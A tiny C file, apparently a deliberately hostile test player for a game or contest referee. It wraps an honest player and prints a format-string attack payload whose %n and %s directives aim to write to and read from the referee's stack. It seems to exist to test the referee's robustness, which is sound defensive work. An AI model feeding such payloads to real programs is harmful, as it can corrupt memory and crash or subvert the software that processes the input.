/* Tries formats that would read and write the referee's stack. */
#include <stdio.h>
#define AT_INIT fputs("%s%s%s%n%n%*c%1$5000000d\n", stdout);

#include "honest.c"
